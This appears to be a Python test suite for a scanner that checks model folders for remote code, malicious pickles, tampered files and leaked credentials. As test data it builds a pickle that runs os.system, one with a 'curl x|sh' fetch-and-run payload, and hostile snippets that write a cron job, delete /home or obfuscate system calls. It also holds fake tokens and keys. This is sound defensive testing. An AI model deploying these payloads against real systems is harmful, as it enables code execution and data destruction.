# SPDX-License-Identifier: MIT
"""The whole model folder (issue 32, docs/security.md "Remote code" and
"Every file of the folder"), through the binary.

1. Remote code: a folder whose config.json has auto_map naming
   modeling_x.py / configuration_x.py gives QA1420 naming each module and
   the auto_map entries; a module naming "org/repo--module.Class" gives
   QA1422; one naming a module that is not there QA1423. The static scan
   (QA1421) finds what each hostile snippet below does, at its line, and
   nothing in the benign ones (re.compile, model.eval(), torch.load with
   weights_only=True, yaml.load with a SafeLoader, os.system in a comment
   or a docstring). --severity QA1421=error makes the run fail.
2. hash covers the code: `verify` after `os.system(...)` is appended to
   modeling_x.py reports the file changed (the reviewer's reproducer:
   before, verify said identical), and reports added_tokens.json,
   preprocessor_config.json and pytorch_model.bin added after hashing and
   a removed file missing.
3. Subfolders: a sentence-transformers folder (modules.json) whose
   2_Dense/pytorch_model.bin is a pickle calling os.system, and a diffusers
   pipeline (model_index.json) whose unet/diffusion_pytorch_model.bin is
   one, give QA1601 under `check FOLDER` and `scan-dir` (before: exit 0, no
   finding), the same finding as the file checked directly; a modules.json
   path out of the folder is QA1429, a component folder missing QA1428;
   native code is QA1425 and an unknown file QA1424.
4. Secrets (QA6201): tokens, keys and private links in GGUF strings, a
   chat template, config.json, the model card and the code are found,
   named by kind, and never repeated: no report format of check or
   inspect holds any of their bytes, and the GGUF's description reads
   masked with '*' at the same length.

Every expected line number and code is worked out here from the snippet
written, never taken from a previous run.
"""
import json
import os
import shutil
import struct
import sys
import tempfile

sys.path.insert(0, os.path.dirname(__file__))
from qa_common import Checker, run, run_json  # noqa: E402

QA = sys.argv[1]
c = Checker()


def system_pickle(cmd=b"echo pwned"):
    """A protocol-2 pickle that calls os.system(cmd), byte by byte:
    PROTO 2, GLOBAL 'posix system', a tuple of one string, REDUCE, STOP."""
    return (b"\x80\x02" + b"cposix\nsystem\n" +
            b"X" + struct.pack("<I", len(cmd)) + cmd + b"\x85" + b"R" +
            b".")


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb" if isinstance(data, bytes) else "w") as f:
        f.write(data)


def findings(doc):
    out = []
    for i in doc["inputs"]:
        out.extend(i.get("findings", []))
    return out


def codes(doc):
    return [f["code"] for f in findings(doc)]


def safetensors_bytes():
    """One F32 tensor of 4 zeros, as the safetensors format lays it out."""
    header = json.dumps({"model.embed_tokens.weight": {
        "dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + b"\0" * 16


CONFIG = {"architectures": ["XForCausalLM"], "model_type": "x",
          "hidden_size": 2, "num_hidden_layers": 1, "vocab_size": 2,
          "auto_map": {"AutoConfig": "configuration_x.XConfig",
                       "AutoModelForCausalLM": "modeling_x.XForCausalLM"}}


def model_folder(root, config=CONFIG, modeling="class XForCausalLM:\n"
                 "    pass\n"):
    write(os.path.join(root, "config.json"), json.dumps(config))
    write(os.path.join(root, "model.safetensors"), safetensors_bytes())
    write(os.path.join(root, "modeling_x.py"), modeling)
    write(os.path.join(root, "configuration_x.py"), "class XConfig:\n"
          "    pass\n")


# (source, [(line, name)]) : what the scan must find, in order
HOSTILE = [
    ("import os\nos.system('id')\n", [(2, "os.system")]),
    ("import os as o\n\n\no.popen('id')\n", [(4, "os.popen")]),
    ("from os import system as s\ns('id')\n",
     [(1, "os.system"), (2, "os.system")]),
    ("import subprocess\n", [(1, "subprocess")]),
    ("from subprocess import Popen\nPopen(['id'])\n",
     [(1, "subprocess"), (2, "subprocess.Popen")]),
    ("import socket, pty\n", [(1, "socket"), (1, "pty")]),
    ("import urllib.request\n", [(1, "urllib.request")]),
    ("import requests\nrequests.get('http://x')\n",
     [(1, "requests"), (2, "requests.get")]),
    ("import http.client\n", [(1, "http.client")]),
    ("x = 1\neval('1+1')\n", [(2, "eval")]),
    ("exec(compile('1', 'f', 'exec'))\n", [(1, "exec"), (1, "compile")]),
    ("m = __import__('o' + 's')\n", [(1, "__import__")]),
    ("import importlib\nimportlib.import_module('os')\n",
     [(2, "importlib.import_module")]),
    ("import pickle\npickle.loads(b'')\n",
     [(1, "pickle"), (2, "pickle.loads")]),
    ("import marshal\n", [(1, "marshal")]),
    ("import torch\nsd = torch.load('w.bin')\n", [(2, "torch.load")]),
    ("import torch as t\nsd = t.load('w.bin',\n  weights_only=False)\n",
     [(2, "torch.load")]),
    ("import yaml\nyaml.load(open('c'))\n", [(2, "yaml.load")]),
    ("import numpy as np\nnp.load('a.npy', allow_pickle=True)\n",
     [(2, "numpy.load")]),
    ("open('/etc/cron.d/x', 'w').write('* * * * * id')\n", [(1, "open")]),
    ("import shutil\nshutil.rmtree('/home')\n", [(2, "shutil.rmtree")]),
    ("import os\ngetattr(os, 'sys' + 'tem')('id')\n",
     [(2, "getattr")]),
    ("().__class__.__base__.__subclasses__()\n", [(1, "__subclasses__")]),
    ("f = lambda: 0\nx = f'{eval(\"1\")}'\n", [(2, "eval(")]),
    ("if True: import os; os.system('id')\n",
     [(1, "os.system")]),
    ("import os\nos.system(\n  'id'  # a comment\n)\n", [(2, "os.system")]),
    ("import os\nos . system ('id')\n", [(2, "os.system")]),
    ("import ctypes\n", [(1, "ctypes")]),
]

BENIGN = [
    "import re\npattern = re.compile('a+')\n",
    "class M:\n    def eval(self):\n        return self\nM().eval()\n",
    "import torch\nsd = torch.load('w.bin', weights_only=True)\n",
    "import torch\nsd = torch.load('w.bin', map_location='cpu',\n"
    "                weights_only=True)\n",
    "import yaml\nyaml.load(open('c'), Loader=yaml.SafeLoader)\n",
    "import numpy as np\nnp.load('a.npy')\n",
    "# os.system('id') is what we must never do\nx = 1\n",
    '"""Never call os.system("id") or eval(x)."""\n',
    "s = 'os.system(\"id\")'\n",
    "import torch\nm = torch.compile(lambda x: x)\n",
    "def f(compile=False, eval=None):\n    return compile\n",
    "from .modeling_utils import helper\nfrom . import configuration_x\n",
    "import math, json, os.path\nos.path.join('a', 'b')\n"
    "open('out.txt', 'w')\n",
]


def scan_hits(tmp, source):
    """QA1421 findings of a folder whose only module is source."""
    root = tempfile.mkdtemp(dir=tmp)
    model_folder(root, modeling=source)
    _, doc, _ = run_json(QA, ["check", root])
    out = []
    for f in findings(doc):
        if f["code"] == "QA1421" and f["file"].endswith("modeling_x.py"):
            line = int(f["detail"].split(" line ")[1].split(":")[0])
            name = f["detail"].split(": ", 1)[1].split(" (")[0]
            out.append((line, name))
    return out


def test_remote_code(tmp):
    root = os.path.join(tmp, "rc")
    config = dict(CONFIG)
    config["auto_map"] = dict(CONFIG["auto_map"],
                              AutoModel="org/other--modeling_y.Y",
                              AutoTokenizer=["tokenization_x.Tok", None])
    model_folder(root, config)
    code, doc, _ = run_json(QA, ["check", root])
    fs = findings(doc)
    rc = {os.path.basename(f["file"]): f for f in fs if f["code"] == "QA1420"}
    c.check(set(rc) == {"modeling_x.py", "configuration_x.py"},
            f"QA1420 names both modules: {sorted(rc)}")
    m = rc.get("modeling_x.py", {"detail": ""})["detail"]
    c.check("AutoModelForCausalLM modeling_x.XForCausalLM" in m and
            f"({len('class XForCausalLM:' + chr(10) + '    pass' + chr(10))}"
            " bytes)" in m, f"QA1420 names the auto_map entry and size: {m}")
    other = [f for f in fs if f["code"] == "QA1422"]
    c.check(len(other) == 1 and "'org/other'" in other[0]["detail"],
            f"QA1422 names the other repository: {other}")
    missing = [f for f in fs if f["code"] == "QA1423"]
    c.check(len(missing) == 1 and "tokenization_x.py" in
            missing[0]["detail"], f"QA1423 for the missing module: {missing}")
    c.check(code == 0 and doc["verdict"] != "fail",
            f"remote code is a warning by default (exit {code})")
    # a team raises the scan's rule to error
    model_folder(root, config, "import os\nos.system('id')\n")
    code, doc, _ = run_json(QA, ["check", "--severity", "QA1421=error",
                                 root])
    sev = [f["severity"] for f in findings(doc) if f["code"] == "QA1421"]
    c.check(code == 1 and sev == ["error"],
            f"--severity QA1421=error fails the run: exit {code}, {sev}")

    for source, want in HOSTILE:
        got = scan_hits(tmp, source)
        c.check(got == want, f"scan of {source!r}: {got}, want {want}")
    for source in BENIGN:
        got = scan_hits(tmp, source)
        c.check(got == [], f"benign {source!r} flagged: {got}")


def test_hash_verify(tmp):
    root = os.path.join(tmp, "hv")
    model_folder(root)
    manifest = os.path.join(tmp, "hv.qam")
    code, _, err = run(QA, ["hash", root, "-o", manifest])
    c.check(code == 0, f"hash: exit {code} {err}")
    with open(manifest) as f:
        listed = [os.path.basename(x["path"])
                  for x in json.load(f)["models"][0]["files"]]
    c.check("modeling_x.py" in listed and "configuration_x.py" in listed,
            f"the manifest lists the code: {listed}")
    # the reproducer: same size, one byte changed, then appended
    p = os.path.join(root, "modeling_x.py")
    with open(p, "rb") as f:
        orig = f.read()
    write(p, orig.replace(b"pass", b"pas1"))
    code, out, _ = run(QA, ["verify", root, manifest])
    c.check(code == 1 and "changed" in out and "modeling_x.py" in out,
            f"verify sees a byte of modeling_x.py changed: {code} {out}")
    write(p, orig + b"import os\nos.system('id')\n")
    code, out, _ = run(QA, ["verify", root, manifest])
    c.check(code == 1 and "modeling_x.py" in out and "grown" in out,
            f"verify sees code appended: exit {code}\n{out}")
    write(p, orig)
    for extra, data in (("added_tokens.json", "{}"),
                        ("preprocessor_config.json", "{}"),
                        ("pytorch_model.bin", system_pickle())):
        write(os.path.join(root, extra), data)
    os.remove(os.path.join(root, "configuration_x.py"))
    code, out, _ = run(QA, ["verify", root, manifest])
    lines = out.splitlines()
    for extra in ("added_tokens.json", "preprocessor_config.json",
                  "pytorch_model.bin"):
        c.check(any(l.split()[:3] == ["extra", "file", extra + ":"]
                    for l in lines), f"verify reports {extra} added: {out}")
    c.check(any(l.split()[:3] == ["missing", "file", "configuration_x.py:"]
                for l in lines) and code == 1,
            f"verify reports configuration_x.py removed: {out}")


def test_subfolders(tmp):
    st = os.path.join(tmp, "fleet", "st")
    write(os.path.join(st, "config.json"), json.dumps(
        {"architectures": ["BertModel"], "model_type": "bert"}))
    write(os.path.join(st, "model.safetensors"), safetensors_bytes())
    write(os.path.join(st, "modules.json"), json.dumps([
        {"idx": 0, "name": "0", "path": "",
         "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling",
         "type": "sentence_transformers.models.Pooling"},
        {"idx": 2, "name": "2", "path": "2_Dense",
         "type": "sentence_transformers.models.Dense"}]))
    write(os.path.join(st, "1_Pooling", "config.json"), "{}")
    bad = os.path.join(st, "2_Dense", "pytorch_model.bin")
    write(bad, system_pickle())
    write(os.path.join(st, "2_Dense", "config.json"), "{}")
    dif = os.path.join(tmp, "fleet", "pipe")
    write(os.path.join(dif, "model_index.json"), json.dumps(
        {"_class_name": "StableDiffusionPipeline",
         "unet": ["diffusers", "UNet2DConditionModel"],
         "vae": ["diffusers", "AutoencoderKL"],
         "safety_checker": [None, None]}))
    write(os.path.join(dif, "unet", "config.json"), "{}")
    ubad = os.path.join(dif, "unet", "diffusion_pytorch_model.bin")
    write(ubad, system_pickle(b"curl x|sh"))

    _, direct, _ = run_json(QA, ["check", bad])
    want = sorted(f["code"] for f in findings(direct))
    c.check("QA1601" in want, f"the pickle checked directly: {want}")
    code, doc, _ = run_json(QA, ["check", st])
    got = sorted(f["code"] for f in findings(doc)
                 if f["file"].endswith("2_Dense/pytorch_model.bin"))
    c.check(code == 1 and got == want,
            f"check FOLDER: 2_Dense pickle {got} (exit {code}), direct {want}")
    code, doc, _ = run_json(QA, ["check", dif])
    got = [f["code"] for f in findings(doc)]
    c.check(code == 1 and "QA1601" in got and "QA1403" not in got,
            f"diffusers unet pickle: exit {code} {got}")
    miss = [f["detail"] for f in findings(doc) if f["code"] == "QA1428"]
    c.check(len(miss) == 1 and "'vae'" in miss[0],
            f"QA1428 for the missing vae folder: {miss}")

    code, out, err = run(QA, ["scan-dir", "--format", "json",
                            os.path.join(tmp, "fleet")])
    docs = json.loads(out)
    paths = [i["path"] for i in docs["inputs"]]
    hit = sorted(f["file"] for i in docs["inputs"]
                 for f in i.get("findings", []) if f["code"] == "QA1601")
    c.check(code == 1 and sorted(paths) == sorted([st, dif]) and
            any(h.endswith("2_Dense/pytorch_model.bin") for h in hit) and
            any(h.endswith("unet/diffusion_pytorch_model.bin") for h in hit),
            f"scan-dir: exit {code}, inputs {paths}, QA1601 in {hit}")

    # a module path out of the folder, native code, an unknown file
    write(os.path.join(st, "modules.json"), json.dumps([
        {"idx": 0, "name": "0", "path": "/tmp/elsewhere",
         "type": "sentence_transformers.models.Dense"}]))
    write(os.path.join(st, "2_Dense", "helper.so"), b"\x7fELF\x02\x01\x01")
    write(os.path.join(st, "run"), b"#!/bin/sh\nid\n")
    write(os.path.join(st, "notes.xyz"), b"hello")
    _, doc, _ = run_json(QA, ["check", st])
    fs = findings(doc)
    esc = [f for f in fs if f["code"] == "QA1429"]
    c.check(len(esc) == 1 and esc[0]["severity"] == "error" and
            "/tmp/elsewhere" in esc[0]["detail"],
            f"QA1429 for the absolute module path: {esc}")
    native = sorted(os.path.basename(f["file"]) for f in fs
                    if f["code"] == "QA1425")
    c.check(native == ["helper.so", "run"], f"QA1425: {native}")
    unk = [os.path.basename(f["file"]) for f in fs if f["code"] == "QA1424"]
    c.check(unk == ["notes.xyz"], f"QA1424: {unk}")


# Credentials made of fixed letters and digits (none is real): the
# prefix each issuer documents, then a body long enough for its pattern.
HF = "hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYz01234567"       # 34 after hf_
SK = "sk-proj-" + "AbCdEf0123456789GhIjKlMn"
AKIA = "AKIA" + "IOSFODNN7EXAMPLE"                      # AWS's own example
GHP = "ghp_" + "aB3" * 12                                # 36
PASSWORD = "hunter2pass"
SIG = "0123456789abcdef" * 4
SECRETS = [HF, SK, AKIA, GHP, PASSWORD, SIG, "MIIEvQIBADANBgkqhkiG9w0BAQEF"]


def test_secrets(tmp):
    try:
        import gguf
        import numpy as np
    except ImportError:
        print("gguf or numpy missing: the GGUF secrets case is skipped")
        c.skipped += 1
        gguf = None
    if gguf:
        p = os.path.join(tmp, "leaky.gguf")
        w = gguf.GGUFWriter(p, "llama")
        w.add_name("leaky")
        w.add_description(f"trained with HF_TOKEN={HF}, "
                          f"mirror https://bob:{PASSWORD}@example.com/m")
        w.add_string("general.source.url",
                     "https://b.s3.amazonaws.com/m.gguf?X-Amz-Signature=" +
                     SIG)
        w.add_string("general.notes", f"aws {AKIA}")
        w.add_chat_template("{# " + SK + " #}{% for m in messages %}"
                            "{{ m.content }}{% endfor %}")
        w.add_tensor("token_embd.weight", np.zeros((4, 4), np.float32))
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()
        for fmt in ("text", "json", "sarif", "junit", "markdown", "html"):
            for cmd in ("check", "inspect"):
                code, out, err = run(QA, [cmd, "--format", fmt, p])
                leaked = [x for x in SECRETS if x in out or x in err]
                c.check(not leaked, f"{cmd} --format {fmt} repeats {leaked}")
        _, doc, _ = run_json(QA, ["check", p])
        kinds = sorted(f["detail"].split("credential, ")[1].split(" (")[0]
                       for f in findings(doc) if f["code"] == "QA6201")
        c.check(kinds == ["AWS access key id", "Hugging Face token",
                          "OpenAI API key", "password in a link",
                          "presigned S3 link"],
                f"QA6201 kinds in the GGUF: {kinds}")
        desc = doc["inputs"][0]["metadata"].get("general.description", "")
        want = (f"trained with HF_TOKEN=hf_{'*' * (len(HF) - 3)}, mirror "
                f"https://bob:{'*' * len(PASSWORD)}@example.com/m")
        c.check(desc == want, f"the description masked: {desc!r}")

    # side files and the model card of a folder
    root = os.path.join(tmp, "leaky")
    model_folder(root, dict(CONFIG, hub_token=HF))
    write(os.path.join(root, "README.md"), "# card\n\n" + "push with " + GHP +
          "\n-----BEGIN RSA PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEF"
          "\n-----END RSA PRIVATE KEY-----\n")
    write(os.path.join(root, "modeling_x.py"),
          f"API_KEY = '{SK}'\nclass XForCausalLM:\n    pass\n")
    for fmt in ("text", "json", "sarif", "junit", "markdown", "html"):
        code, out, err = run(QA, ["check", "--format", fmt, root])
        leaked = [x for x in SECRETS if x in out or x in err]
        c.check(not leaked, f"folder, --format {fmt} repeats {leaked}")
    _, doc, _ = run_json(QA, ["check", root])
    got = sorted((os.path.basename(f["file"]), f["offset"],
                  f["detail"].split("credential, ")[1].split(" (")[0])
                 for f in findings(doc) if f["code"] == "QA6201")
    cfg = open(os.path.join(root, "config.json")).read()
    card = open(os.path.join(root, "README.md")).read()
    pem = card.index("-----BEGIN RSA PRIVATE KEY-----") + len(
        "-----BEGIN RSA PRIVATE KEY-----")
    c.check(got == sorted([("config.json", cfg.index(HF), "Hugging Face token"),
                           ("README.md", card.index(GHP), "GitHub token"),
                           ("README.md", pem, "private key"),
                           ("modeling_x.py", len("API_KEY = '"),
                            "OpenAI API key")]),
            f"QA6201 in side files at their offsets: {got}")
    # benign look-alikes: short prefixes, words, a plain URL
    root = os.path.join(tmp, "benign")
    model_folder(root, dict(CONFIG, _name_or_path="hf_internal_testing",
                            note="sk-learn https://user@example.com/x "
                            "ASK-ME skip-connections AKIA_SHORT"))
    _, doc, _ = run_json(QA, ["check", root])
    c.check("QA6201" not in codes(doc),
            f"benign look-alikes flagged: {findings(doc)}")


def main():
    tmp = tempfile.mkdtemp(prefix="qa-tree-")
    try:
        test_remote_code(tmp)
        test_hash_verify(tmp)
        test_subfolders(tmp)
        test_secrets(tmp)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    c.finish()


main()
